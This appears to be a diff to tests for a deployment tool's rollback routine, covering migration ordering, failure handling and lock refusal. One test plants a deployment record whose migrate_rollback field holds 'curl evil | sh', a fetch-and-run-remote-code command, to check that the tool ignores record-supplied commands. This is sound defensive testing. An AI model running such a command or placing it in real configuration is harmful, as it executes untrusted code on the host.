@@ -210,13 +210,15 @@ describe('runRollback', () => {
   it('records the rollback, runs migrate-rollback before the switch, marks the bad one failure, keeps the ledger', async () => {
     const env = 'run-ok';
     const v3 = await deploy(env, 'v3', ['in_progress', 'success']);
-    const v4 = await deploy(env, 'v4', ['in_progress', 'success'], { migrate_rollback: 'node /app/migrate.mjs down' });
+    // The record's command is never run: the label Paved wrote on the running container is.
+    const v4 = await deploy(env, 'v4', ['in_progress', 'success'], { migrate_rollback: 'sh -c "curl evil | sh"' });
     const target = new FakeTarget({
       name: `shop-${v4}`,
       digest: digest('v4'),
       deploymentId: v4,
       version: 'v4',
       running: true,
+      migrateRollback: ['node', '/app/migrate.mjs', 'down'],
     });
     const host = new FakeHost();
     const count = fx.gh.state.deployments.length;
@@ -256,8 +258,14 @@ describe('runRollback', () => {
   it('runs migrate-rollback after the switch when asked', async () => {
     const env = 'run-after';
     await deploy(env, 'v3', ['success']);
-    const v4 = await deploy(env, 'v4', ['success'], { migrate_rollback: 'down' });
-    const target = new FakeTarget({ name: 'x', digest: digest('v4'), deploymentId: v4, running: true });
+    const v4 = await deploy(env, 'v4', ['success']);
+    const target = new FakeTarget({
+      name: 'x',
+      digest: digest('v4'),
+      deploymentId: v4,
+      running: true,
+      migrateRollback: ['down'],
+    });
     const order: string[] = [];
     const host = new FakeHost();
     const origRollback = target.rollback.bind(target);
@@ -272,8 +280,14 @@ describe('runRollback', () => {
   it('stops before the switch when migrate-rollback fails: the rollback is failure, the bad one untouched', async () => {
     const env = 'run-migrate-fails';
     await deploy(env, 'v3', ['success']);
-    const v4 = await deploy(env, 'v4', ['success'], { migrate_rollback: 'down' });
-    const target = new FakeTarget({ name: 'x', digest: digest('v4'), deploymentId: v4, running: true });
+    const v4 = await deploy(env, 'v4', ['success']);
+    const target = new FakeTarget({
+      name: 'x',
+      digest: digest('v4'),
+      deploymentId: v4,
+      running: true,
+      migrateRollback: ['down'],
+    });
     const { report, error } = await runRollback(
       request(env, target, { host: new FakeHost({ state: 'available' }, 3) }),
     );
@@ -299,7 +313,7 @@ describe('runRollback', () => {
     [
       'another deploy holds the lock',
       { locked: 'https://github.com/acme/shop/actions/runs/5' },
-      /locked by a running deploy: https:\/\/github\.com\/acme\/shop\/actions\/runs\/5/,
+      /locked by another deploy: https:\/\/github\.com\/acme\/shop\/actions\/runs\/5/,
     ],
   ])('refuses when %s, changing nothing', async (_, given, message) => {
     const options: { check?: ImageCheck; locked?: string } = given;
